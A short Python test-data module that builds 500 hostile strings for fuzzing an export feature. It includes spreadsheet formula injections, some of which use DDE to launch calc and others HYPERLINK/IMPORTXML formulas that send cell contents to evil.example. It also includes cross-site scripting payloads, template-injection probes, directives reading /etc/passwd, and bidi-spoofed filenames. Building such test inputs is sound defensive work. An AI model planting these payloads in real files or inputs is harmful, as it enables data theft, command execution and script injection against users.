"""Five hundred texts that somebody would send to break an export, made the same way each time."""

from itertools import product

_FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+1", "=cmd|'/C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
    "-5", "＝1+1", "＋1", "－1", "＠SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", " =1+1", "|calc", "%0A=1", "DDE(\"cmd\")",
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
)  # fmt: skip
_MARKUP = (
    "<script>alert(1)</script>", "</td></table><img src=x onerror=alert(1)>", '" onload="alert(1)', "'><svg/onload=alert(1)>",
    "&lt;b&gt;", "&#x3C;", "]]>", "<!--", "-->", "</title><script>", "javascript:alert(1)", "<style>*{display:none}</style>",
    "#import \"/etc/passwd\"", "#read(\"/etc/passwd\")", "#{panic()}", "*bold* _it_ `raw` $x^2$", "= heading", "\\ \\u{41}",
    "@ref <label>", "#eval(\"1\")", "[content](x)", "#sys.inputs.document", "// comment", "/* comment", "~ -- --- ...",
)  # fmt: skip
_QUOTES = (',"\n', '""', '"', "a,b", "a;b", "line\r\nline", "tab\there", "'", "''", "\\", "\\n", "%s%n", "{0}", "${x}", "{{7*7}}")
_SIGNS = (
    "客户一号", "青岛区 VIP", "𠮷野家", "é́", "🚚📦", "\u202egnp.exe", "\u2066x\u2069", "\u200b", "\ufeffBOM", "\ud800",
    "\udfff x", "\x01\x02", "\x1b[31m", "\x7f", "\x85", "\ufffe", "_x0041_", "_x0001_", "مرحبا", "NaN", "None", "null",
    "TRUE", "1e999", "01/02/03", "0012", "", " ", "x" * 5_000, "中" * 5_000, "a" * 40_000,
)  # fmt: skip
_BASE = (*_FORMULAS, *_MARKUP, *_QUOTES, *_SIGNS)
_AROUND = (("", ""), ("", ' "x",=1'), ("客户", "<b>"), ('"', "\r\n=2"), ("=", "）"), ("#", "]"))
HOSTILE = [f"{before}{text}{after}" for (before, after), text in product(_AROUND, _BASE)][:500]
